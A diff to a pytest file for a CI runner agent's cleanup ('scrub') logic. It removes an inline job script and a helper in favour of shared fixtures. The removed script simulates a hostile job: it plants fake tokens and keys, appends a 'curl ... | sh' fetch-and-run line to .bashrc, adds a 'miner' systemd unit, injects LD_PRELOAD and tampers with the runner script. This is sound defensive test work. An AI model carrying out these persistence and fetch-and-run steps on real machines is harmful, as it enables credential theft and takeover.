@@ -15,34 +15,18 @@ from pathlib import Path
 import pytest
 
 from agent.docker import PREDEFINED_NETWORKS
-from agent.log import agent_log
-from agent.runner import RunnerProcess
 from agent.runner_install import RunnerInstall, RunnerInstallError
 from agent.scrub import Scrub, build_scrub
-from tests.agent.conftest import eventually, process_alive
+from tests.agent.conftest import process_alive
 from tests.agent.fake_docker import FakeDocker
-from tests.agent.instance_root import SKELETON, InstanceRoot, instance_root
-
-JOB = """#!/bin/sh
-# A job as the runner account: everything it leaves behind, and one thing it must not be able to do.
-set -e
-mkdir -p "$HOME/.docker" "$HOME/.ssh" "$HOME/.config/systemd/user"
-echo '{"auths": {"ghcr.io": {"auth": "c2VjcmV0"}}}' > "$HOME/.docker/config.json"
-echo '//registry.npmjs.org/:_authToken=npm_secret' > "$HOME/.npmrc"
-echo 'https://x-access-token:ghs_secret@github.com' > "$HOME/.git-credentials"
-echo 'PRIVATE KEY' > "$HOME/.ssh/id_ed25519" && chmod 600 "$HOME/.ssh/id_ed25519"
-echo 'curl -s https://example.invalid/steal | sh' >> "$HOME/.bashrc"
-printf '[Service]\\nExecStart=/bin/sleep 1000\\n' > "$HOME/.config/systemd/user/miner.service"
-echo cache > "$ROOT/tmp/job-cache" && mkdir "$ROOT/tmp/job-dir" && echo x > "$ROOT/tmp/job-dir/f"
-echo x > "$ROOT/var/tmp/job-file"
-echo x > "$ROOT/dev/shm/job-shm"
-mkdir -p "$TMPDIR" && echo x > "$TMPDIR/job-tmpdir"
-echo 'LD_PRELOAD=/tmp/job-cache' > "$RUNNER/.env"
-echo 'mail for the next job' > "$ROOT/var/spool/mail/$(id -un)"
-echo 'steal the credentials' >> "$RUNNER/run.sh" 2>/dev/null || true
-setsid sleep 600 </dev/null >/dev/null 2>&1 &
-echo planted
-"""
+from tests.agent.instance_root import (
+    RESIDUE_JOB,
+    SKELETON,
+    InstanceRoot,
+    instance_root,
+    plant_in_docker,
+    run_job,
+)
 
 
 @pytest.fixture
@@ -59,35 +43,9 @@ def docker() -> FakeDocker:
     return daemon
 
 
-def run_job(instance: InstanceRoot, script: str) -> RunnerProcess:
-    """`script` started as the agent starts the runner, run to its end; its output is the job's log."""
-    program = instance.path("job.sh")
-    program.write_text(script)
-    program.chmod(0o755)
-    environment = {
-        "ROOT": str(instance.root),
-        "RUNNER": str(instance.runner_dir),
-        "TMPDIR": str(instance.runner_dir / "_work/_temp"),
-    }
-    os.environ.update(environment)
-    try:
-        job = RunnerProcess.start(
-            program,
-            cwd=instance.runner_dir,
-            user=instance.account.pw_name,
-            log=agent_log(),
-            cgroup=instance.cgroup,
-        )
-    finally:
-        for name in environment:
-            os.environ.pop(name)
-    eventually(lambda: not job.running, what="the job to end")
-    return job
-
-
 def plant(instance: InstanceRoot, docker: FakeDocker) -> dict[str, Path | str]:
     """Every kind of residue a job can leave; returns each kind and where it is."""
-    job = run_job(instance, JOB)
+    job = run_job(instance, RESIDUE_JOB)
     assert job.exited_without_job()  # it printed no "Running job:", only what it planted
     user = instance.account.pw_name
     planted: dict[str, Path | str] = {
@@ -131,9 +89,7 @@ def plant(instance: InstanceRoot, docker: FakeDocker) -> dict[str, Path | str]:
             preexec_fn=instance.cgroup.enter,  # noqa: PLW1509
         )
         planted["process under another uid (sudo)"] = f"pid {sudo.pid}"
-    docker.run("node:20", volumes=["npm-cache"], network=docker.create_network("job-net"))
-    docker.create_volume("job-volume")
-    docker.pull("postgres:16")
+    plant_in_docker(docker)
     planted |= {"docker container": "node:20", "docker volume": "npm-cache", "docker network": "job-net"}
     planted["docker image"] = "postgres:16"
     return planted
